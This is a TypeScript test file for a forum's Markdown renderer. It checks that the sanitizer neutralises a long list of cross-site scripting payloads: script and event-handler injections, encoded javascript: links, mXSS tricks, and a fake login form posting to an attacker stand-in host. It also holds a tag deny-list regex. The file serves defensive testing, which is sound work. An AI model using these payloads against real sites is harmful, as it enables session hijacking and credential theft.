import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { findMentions, plainExcerpt, renderMarkdown } from "./markdown.ts";

// What the sanitizer may ever emit (mirrors the allow-list in markdown.ts; anything else is a failure).
const SAFE_TAGS = new Set(["P", "BR", "HR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI", "H2", "H3", "H4", "A", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN"]);
const SAFE_ATTRS = new Set(["href", "title", "class", "rel", "start", "align"]);
const SAFE_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);

const { document } = new JSDOM("").window;
function dom(html: string) {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

/** Every element and attribute is on the allow-list, and every link goes somewhere harmless. */
function expectSafe(html: string) {
  expect(html).not.toMatch(/<\s*\/?\s*(script|iframe|object|embed|style|svg|math|form|input|button|textarea|select|meta|base|link|img|video|audio|source|frame|frameset|applet|details|marquee|template|noscript)\b/i);
  for (const el of dom(html).querySelectorAll("*")) {
    expect(SAFE_TAGS.has(el.tagName), `tag <${el.tagName}> in ${html}`).toBe(true);
    for (const attr of el.getAttributeNames()) {
      expect(SAFE_ATTRS.has(attr), `attribute ${attr} in ${html}`).toBe(true);
      expect(attr.startsWith("on")).toBe(false);
    }
    const href = el.getAttribute("href");
    if (href != null) {
      // Resolve it the way a browser would (tabs, newlines and leading control characters are ignored).
      const { protocol } = new URL(href, "https://community.example/forums/t/1");
      expect(SAFE_PROTOCOLS.has(protocol), `href ${href} in ${html}`).toBe(true);
    }
    if (el.tagName === "A" && href && !href.startsWith("/")) expect(el.getAttribute("rel")).toBe("nofollow ugc noopener");
  }
}

const XSS_VECTORS: [string, string][] = [
  ["script tag", "<script>alert(1)</script>"],
  ["script tag, upper case", "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>"],
  ["script split by newline", "<scr\nipt>alert(1)</scr\nipt>"],
  ["nested script to defeat one-pass filters", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["script in markdown paragraph", "Hello **there** <script>document.cookie</script> friend"],
  ["img onerror", '<img src=x onerror="alert(1)">'],
  ["img onerror without quotes", "<img src=x onerror=alert(1)//>"],
  ["img with backtick", "<img src=`x`onerror=alert(1)>"],
  ["body onload", "<body onload=alert(1)>"],
  ["div onmouseover", '<div onmouseover="alert(1)">hover</div>'],
  ["span onclick keeps only the text", "<span onclick='alert(1)' style='color:red'>click</span>"],
  ["a onclick", '<a href="https://example.org" onclick="alert(1)">x</a>'],
  ["p onfocus autofocus", "<p tabindex=1 autofocus onfocus=alert(1)>x</p>"],
  ["details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"],
  ["markdown link to javascript:", "[click](javascript:alert(1))"],
  ["markdown link to JaVaScRiPt:", "[click](JaVaScRiPt:alert(1))"],
  ["markdown link with entity-encoded scheme", "[click](&#106;avascript:alert(1))"],
  ["markdown link with hex entities", "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))"],
  ["markdown link with percent-encoding", "[click](javascript%3Aalert(1))"],
  ["markdown link with leading space", "[click]( javascript:alert(1))"],
  ["markdown link with tab in scheme", "[click](java\tscript:alert(1))"],
  ["markdown link with encoded tab", "[click](java&#x09;script:alert(1))"],
  ["markdown link with encoded newline", "[click](java&#10;script:alert(1))"],
  ["markdown link with &colon;", "[click](javascript&colon;alert(1))"],
  ["markdown reference link to javascript:", "[click][evil]\n\n[evil]: javascript:alert(1)"],
  ["markdown autolink to javascript:", "<javascript:alert(1)>"],
  ["markdown link to vbscript:", "[click](vbscript:msgbox(1))"],
  ["markdown link to data: html", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["markdown link to file:", "[click](file:///etc/passwd)"],
  ["markdown image with javascript:", "![x](javascript:alert(1))"],
  ["markdown image with data: svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["markdown image with onerror in title", '![x](https://example.org/a.png "x\\" onerror=\\"alert(1)")'],
  ["html a to javascript:", '<a href="javascript:alert(1)">x</a>'],
  ["html a with hex-entity scheme", '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ["html a with decimal entities, no semicolons", '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>'],
  ["html a with embedded tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ["html a with leading control char", '<a href="&#14; javascript:alert(1)">x</a>'],
  ["html a to vbscript:", '<a href="vbscript:msgbox(1)">x</a>'],
  ["html a to data:", '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ["html a xlink", '<a xlink:href="javascript:alert(1)">x</a>'],
  ["img src javascript:", '<img src="javascript:alert(1)">'],
  ["img dynsrc/lowsrc", '<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">'],
  ["svg onload", '<svg onload="alert(1)"></svg>'],
  ["svg with script", "<svg><script>alert(1)</script></svg>"],
  ["svg animate href", '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>'],
  ["svg use with data: href", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  ["math with maction href", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ["math namespace confusion (mXSS)", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["noscript mXSS", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["style tag", "<style>body{display:none}</style>"],
  ["style attribute", '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>'],
  ["style with expression()", '<p style="width: expression(alert(1))">x</p>'],
  ["style with url(javascript:)", "<p style=\"background:url('javascript:alert(1)')\">x</p>"],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["iframe", '<iframe src="https://evil.example"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["iframe javascript:", '<iframe src="javascript:alert(1)"></iframe>'],
  ["frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ["object", '<object data="javascript:alert(1)"></object>'],
  ["object with param", '<object type="text/x-scriptlet" data="https://evil.example/x.sct"><param name=x value=y></object>'],
  ["embed", '<embed src="https://evil.example/x.swf">'],
  ["embed data: svg", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ["applet", '<applet code="Evil.class"></applet>'],
  ["form with action", '<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>'],
  ["input autofocus onfocus", "<input autofocus onfocus=alert(1)>"],
  ["button formaction", '<button formaction="javascript:alert(1)">x</button>'],
  ["textarea and select", "<textarea>x</textarea><select><option>y</option></select>"],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["meta refresh to data:", '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ["base href", '<base href="https://evil.example/">'],
  ["video/audio with onerror", "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>"],
  ["marquee onstart", "<marquee onstart=alert(1)>x</marquee>"],
  ["template", "<template><script>alert(1)</script></template>"],
  ["id and name clobbering", '<a id="csrf" name="csrf" href="https://example.org">x</a><form id="tpc"></form>'],
  ["data attributes", '<p data-x="1" data-bind="alert(1)">x</p>'],
  ["class mimicking the interface", '<p class="govuk-button govuk-notification-banner">Official notice</p>'],
  ["comment breaking out", "<!--><img src=x onerror=alert(1)>-->"],
  ["CDATA", "<![CDATA[<script>alert(1)</script>]]>"],
  ["unclosed attribute", '<a href="https://example.org" title="x onmouseover=alert(1) ">x</a>'],
  ["html inside markdown link text", "[<img src=x onerror=alert(1)>](https://example.org)"],
  ["quote breaking out of title", '[x](https://example.org "a\\" onmouseover=\\"alert(1)")'],
  ["null byte in tag", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"],
  ["fullwidth angle brackets", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"],
];

describe("renderMarkdown: hostile input", () => {
  it.each(XSS_VECTORS)("neutralises %s", (_name, source) => {
    expectSafe(renderMarkdown(source));
    // The mention pass re-parses the HTML; it must not reopen anything.
    expectSafe(renderMarkdown(`@alice ${source} @alice`, new Set(["alice"])));
  });

  it("keeps a link's text when it drops a dangerous href", () => {
    const html = renderMarkdown("[click me](javascript:alert(1))");
    expect(html).toContain("click me");
    expect(html).not.toContain("href");
  });

  it("escapes HTML inside code so it shows as text", () => {
    const html = renderMarkdown("`<script>alert(1)</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expectSafe(html);
  });

  it("does not let a member forge a mention link or interface classes", () => {
    const html = renderMarkdown('<a href="/members/admin" class="mention govuk-button">@admin</a> <span class="govuk-tag">Admin</span>');
    const body = dom(html);
    expect(body.querySelector("a")!.getAttribute("class")).toBe("govuk-link");
    expect(body.querySelector("span")!.hasAttribute("class")).toBe(false);
  });

  it("stays safe on a very large hostile body", () => {
    const source = Array.from({ length: 300 }, (_, i) => XSS_VECTORS[i % XSS_VECTORS.length][1]).join("\n\n");
    expectSafe(renderMarkdown(source, new Set(["alice"])));
  });
});

describe("renderMarkdown: ordinary Markdown", () => {
  it("renders emphasis, strike-through and line breaks", () => {
    const html = renderMarkdown("We counted **£7bn** and *more*, not ~~£5bn~~.\nNew line");
    expect(html).toContain("<strong>£7bn</strong>");
    expect(html).toContain("<em>more</em>");
    expect(html).toContain("<del>£5bn</del>");
    expect(html).toContain("<br>");
  });

  it("renders bulleted and numbered lists, keeping the start number", () => {
    const html = renderMarkdown("- Kent\n- Croydon\n\n3. third\n4. fourth");
    expect(html).toMatch(/<ul>\s*<li>Kent<\/li>\s*<li>Croydon<\/li>\s*<\/ul>/);
    expect(html).toContain('<ol start="3">');
  });

  it("renders GFM tables with alignment", () => {
    const html = renderMarkdown("| Place | Spend |\n|---|--:|\n| Kent | £7bn |");
    const table = dom(html).querySelector("table")!;
    expect(table).not.toBeNull();
    expect(table.querySelector("th")!.textContent).toBe("Place");
    expect(table.querySelectorAll("td")[1].getAttribute("align")).toBe("right");
  });

  it("renders inline code and fenced code blocks", () => {
    const html = renderMarkdown("Use `SUM(x)`:\n\n```sql\nSELECT 1;\n```");
    expect(html).toContain("<code>SUM(x)</code>");
    expect(dom(html).querySelector("pre code")!.textContent).toContain("SELECT 1;");
  });

  it("renders block quotes", () => {
    const html = renderMarkdown("> **@amina** [wrote](/p/12):\n> Pooled budgets work");
    const quote = dom(html).querySelector("blockquote")!;
    expect(quote.textContent).toContain("Pooled budgets work");
    const link = quote.querySelector("a")!;
    expect(link.getAttribute("href")).toBe("/p/12");
  });

  it("marks external links nofollow ugc noopener, and leaves internal ones alone", () => {
    const html = renderMarkdown('[Total Place](https://www.local.gov.uk/total-place "LGA") and [a thread](/forums/housing) and https://example.org');
    const links = [...dom(html).querySelectorAll("a")];
    expect(links).toHaveLength(3);
    expect(links[0].getAttribute("href")).toBe("https://www.local.gov.uk/total-place");
    expect(links[0].getAttribute("rel")).toBe("nofollow ugc noopener");
    expect(links[0].getAttribute("title")).toBe("LGA");
    expect(links[0].getAttribute("class")).toBe("govuk-link");
    expect(links[1].getAttribute("href")).toBe("/forums/housing");
    expect(links[1].hasAttribute("rel")).toBe(false);
    expect(links[2].getAttribute("href")).toBe("https://example.org");
    expect(links[2].getAttribute("rel")).toBe("nofollow ugc noopener");
  });

  it("treats protocol-relative links as external", () => {
    const a = dom(renderMarkdown("[x](//evil.example/path)")).querySelector("a")!;
    expect(a.getAttribute("rel")).toBe("nofollow ugc noopener");
  });

  it("downgrades headings so h1 stays the page's own (h1→h2, h2→h3, h3+→h4)", () => {
    const html = renderMarkdown("# One\n\n## Two\n\n### Three\n\n###### Six\n\nSetext\n======");
    expect(html).not.toMatch(/<h1|<h5|<h6/);
    expect(html).toContain("<h2>One</h2>");
    expect(html).toContain("<h3>Two</h3>");
    expect(html).toContain("<h4>Three</h4>");
    expect(html).toContain("<h4>Six</h4>");
    expect(html).toContain("<h2>Setext</h2>");
  });

  it("renders a horizontal rule and escapes stray angle brackets in text", () => {
    const html = renderMarkdown("a < b > c\n\n---\n\nend");
    expect(html).toContain("<hr>");
    expect(html).toContain("a &lt; b &gt; c");
  });
});

describe("renderMarkdown: mentions", () => {
  it("links known handles only, outside code and existing links", () => {
    const html = renderMarkdown("Thanks @alice and @Unknown-person – see `@alice` and [@alice](https://example.org)", new Set(["alice"]));
    const body = dom(html);
    const mentions = [...body.querySelectorAll("a.mention")];
    expect(mentions).toHaveLength(1);
    expect(mentions[0].getAttribute("href")).toBe("/members/alice");
    expect(mentions[0].getAttribute("class")).toBe("govuk-link mention");
    expect(mentions[0].textContent).toBe("@alice");
    expect(body.textContent).toContain("@Unknown-person");
    expect(body.querySelector("code")!.textContent).toBe("@alice");
    expect(body.querySelectorAll("a")).toHaveLength(2);
  });

  it("links a mention case-insensitively and keeps the surrounding text", () => {
    const html = renderMarkdown("(@Alice) said, @alice!", new Set(["alice"]));
    const body = dom(html);
    expect(body.querySelectorAll("a.mention")).toHaveLength(2);
    expect(body.textContent!.trim()).toBe("(@Alice) said, @alice!");
    for (const a of body.querySelectorAll("a.mention")) expect(a.getAttribute("href")).toBe("/members/alice");
  });

  it("does not treat email addresses or paths as mentions", () => {
    const html = renderMarkdown("Mail amina@alice.gov.uk or see /@alice", new Set(["alice"]));
    expect(dom(html).querySelectorAll("a.mention")).toHaveLength(0);
  });
});

describe("findMentions", () => {
  it("finds unique lower-cased handles outside code", () => {
    expect(findMentions("Hi @Alice and @bob_1, @alice again. `@inline` ```\n@fenced\n```").sort()).toEqual(["alice", "bob_1"]);
  });

  it("ignores emails, paths, too-short and too-long handles", () => {
    expect(findMentions("x@example.org /@path @ab @" + "a".repeat(40))).toEqual([]);
  });

  it("finds mentions at the start, after punctuation and in quotes", () => {
    expect(findMentions("@first (@second) \"@third\"\n> @fourth").sort()).toEqual(["first", "fourth", "second", "third"]);
  });

  it("returns nothing for text without @", () => {
    expect(findMentions("Nothing to see here")).toEqual([]);
  });
});

describe("plainExcerpt", () => {
  it("strips Markdown syntax, quotes and code blocks", () => {
    expect(plainExcerpt("# Title\n> quoted line\n**bold** and _em_ [link](https://x.org)\n```\ncode here\n```\n- item")).toBe("Title bold and em link https://x.org item");
  });

  it("collapses whitespace", () => {
    expect(plainExcerpt("  a \n\n\t b  ")).toBe("a b");
  });

  it("truncates long text with an ellipsis within the limit", () => {
    const out = plainExcerpt("word ".repeat(100), 50);
    expect(out.length).toBeLessThanOrEqual(50);
    expect(out.endsWith("…")).toBe(true);
    expect(plainExcerpt("short", 50)).toBe("short");
    expect(plainExcerpt("x".repeat(280))).toHaveLength(280);
    expect(plainExcerpt("x".repeat(281))).toHaveLength(280);
  });

  it("never leaves a Markdown link or image behind", () => {
    expect(plainExcerpt("![chart](https://x.org/a.png) see [the report](/p/3)")).toBe("chart https://x.org/a.png see the report /p/3");
  });
});
